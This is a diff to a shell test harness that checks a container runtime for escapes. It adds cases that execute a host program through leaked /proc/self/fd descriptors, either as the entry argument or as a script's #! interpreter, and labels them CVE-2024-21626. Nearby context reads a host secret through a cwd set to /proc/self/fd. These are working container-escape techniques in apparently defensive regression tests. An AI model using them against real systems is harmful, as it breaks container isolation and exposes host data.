@@ -115,6 +115,39 @@ attack_leaked_directory() { # a directory of the host that the caller left open
     run 9< $host | grep 'secret of the host'
 }
 
+# by_descriptor CONFIG...: a program of the host is run, by each descriptor that
+# may be open while it is looked up.  It cannot be had by a path inside.
+by_descriptor() {
+    cp build/rootfs/bin/busybox $host/echo
+    for fd in 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20; do
+        for way in "$fd/echo" "$fd/1/root$host/echo"; do
+            "$1" "/proc/self/fd/$way"
+            run 9< $host | grep 'ran what is outside' && return 0
+        done
+    done
+    return 1
+}
+
+program_by_descriptor() {
+    config true '' "$dev"
+    sed -i "s|\"args\": [^]]*]|\"args\": [\"$1\", \"ran what is outside\"]|" $bundle/config.json
+}
+
+script_by_descriptor() {
+    printf '#!%s ran what is outside\n' "$1" > $image/bin/entry
+    chmod +x $image/bin/entry
+    config /bin/entry '' "$dev"
+    sed -i 's|"args": [^]]*]|"args": ["/bin/entry"]|' $bundle/config.json
+}
+
+attack_program_descriptor() { # args[0] is found by a descriptor
+    by_descriptor program_by_descriptor
+}
+
+attack_script_descriptor() { # what a script of the image says it is run by
+    by_descriptor script_by_descriptor
+}
+
 attack_cwd_descriptor() { # process.cwd is a link to a descriptor of the runtime
     for fd in 3 4 5 6 7 8 9; do
         config "cat secret ../../../$host/secret" ", \"cwd\": \"/proc/self/fd/$fd\"" "$dev"
@@ -401,6 +434,8 @@ row() {
     echo "| --- | --- | --- | --- | --- |"
 } | tee $table
 row leaked_directory CVE-2024-21626 "read the host by a directory the caller left open"
+row program_descriptor CVE-2024-21626 "the program is found by a link in /proc: a directory left open, or the runtime's own"
+row script_descriptor CVE-2024-21626 "the same by the \`#!\` line of a script"
 row cwd_descriptor CVE-2024-21626 "start in a directory of the host: \`cwd\` is a link in /proc"
 row mount_link CVE-2017-1002101 "a mount point that is a link out of the image"
 row mount_race CVE-2021-30465 "a mount point that becomes a link while the runtime looks"
